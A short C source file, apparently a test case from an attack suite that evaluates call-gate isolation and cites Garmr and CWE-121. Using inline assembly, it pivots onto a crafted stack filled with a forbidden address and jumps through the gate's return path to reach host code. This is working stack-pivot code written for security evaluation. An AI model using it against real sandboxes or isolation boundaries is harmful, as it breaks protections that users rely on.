/* Tries: to return to the host by the gate's way out, with a stack of the library's that says
 *   where to
 * From: Garmr (Voulimeneas et al.); CWE-121
 * Observed: A function of the host's was entered.
 * Needs: machine-code, keys */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN

/* Jumps there with these registers; what comes back comes back here, or not at all. */
static void LOCAL(jump)(uint64_t code, uint64_t rights, uint64_t others)
{
    register uint64_t r8 __asm__("r8") = others;
    __asm__ volatile(
        "mov %0, %%r11\n\tmov %1, %%rax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%%r11"
        :
        : "r"(code), "r"(rights), "S"(others), "D"(others), "r"(r8)
        : "rax", "rcx", "rdx", "r11", "memory");
}

FOREIGN(run)
{
    static uint64_t stack[512] __attribute__((aligned(16)));
    for (int i = 0; i < 512; i++)
        stack[i] = at->forbidden;
    if (at->gate_start)
        __asm__ volatile("mov %0, %%rsp\n\tmov %0, %%rbp\n\tjmp *%1"
                         :
                         : "r"(&stack[256]), "r"(at->gate_return));
    else
        __asm__ volatile("mov %0, %%rsp\n\tret" : : "r"(&stack[256]));
    return 0;
}

#endif
